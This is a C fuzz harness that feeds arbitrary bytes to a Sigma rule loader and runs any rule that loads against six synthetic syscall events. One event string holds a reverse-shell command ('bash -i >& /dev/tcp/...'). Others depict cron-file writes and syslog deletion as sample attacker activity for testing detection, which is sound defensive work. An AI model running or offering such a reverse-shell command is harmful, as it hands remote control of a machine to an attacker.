// SPDX-License-Identifier: MIT
/*
 * fuzz_sigma: the Sigma loader (libyaml parse, rule compilation, condition
 * parser) on any bytes, then, for a rule that loads, its evaluation on a
 * few events of each category. A refusal must say why; nothing may crash,
 * leak or read out of bounds.
 */
#include <stdio.h>
#include <stdlib.h>

#include "../unit/sig_synth.h"
#include "sigma/sigma.h"

#define check(cond)                                                                     \
	do {                                                                            \
		if (!(cond)) {                                                          \
			fprintf(stderr, "fuzz_sigma: %s:%d: broken: %s\n", __FILE__,    \
				__LINE__, #cond);                                       \
			abort();                                                        \
		}                                                                       \
	} while (0)

static const char *const events[] = {
	"sched_process_exec: cmdpath=/usr/bin/bash pathname=/usr/bin/bash argv=bash|-c|bash -i >& /dev/tcp/1.2.3.4/5 @cwd=/tmp",
	"openat: dirfd=-100 pathname=/etc/cron.d/x flags=0101",
	"unlinkat: dirfd=-100 pathname=/var/log/syslog flags=0",
	"renameat2: olddirfd=-100 oldpath=/var/log/a newdirfd=-100 newpath=/tmp/b flags=0",
	"connect: sockfd=3 addr=inet:10.0.0.1:3333",
	"connect: sockfd=3 addr=inet6:fd00::1:443",
};

static int count(void *ctx, const struct tr_finding *f)
{
	check(f->sig && f->ev);
	(*(int *)ctx)++;
	return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct tr_sigma *s = tr_sigma__new();
	const struct tr_signature *const *sigs;
	char err[512] = "";
	size_t n;
	int rc, found = 0;

	check(s);
	rc = tr_sigma__load_buffer(s, "fuzz.yml", data, size, err, sizeof(err));
	check(rc == 0 || rc == 1);
	if (rc == 1)
		check(err[0] && tr_sigma__refused(s) == 1);
	sigs = tr_sigma__sigs(s, &n);
	check(n == (rc == 0));
	if (n) {
		struct ss_ctx sc = { .tree = tr_proctree__new() };
		struct tr_sigset *set;

		check(tr_sig__validate(sigs[0], err, sizeof(err)) == 0);
		check(tr_sigset__new(&set, sigs, n, sc.tree, count, &found) == 0);
		for (size_t i = 0; i < sizeof(events) / sizeof(events[0]); i++) {
			struct ss_event *e = calloc(1, sizeof(*e));

			check(e);
			ss_build(&sc, e, events[i]);
			check(tr_sigset__event(set, &e->v) == 0);
			free(e);
		}
		tr_sigset__free(set);
		tr_proctree__free(sc.tree);
	}
	tr_sigma__free(s);
	return 0;
}
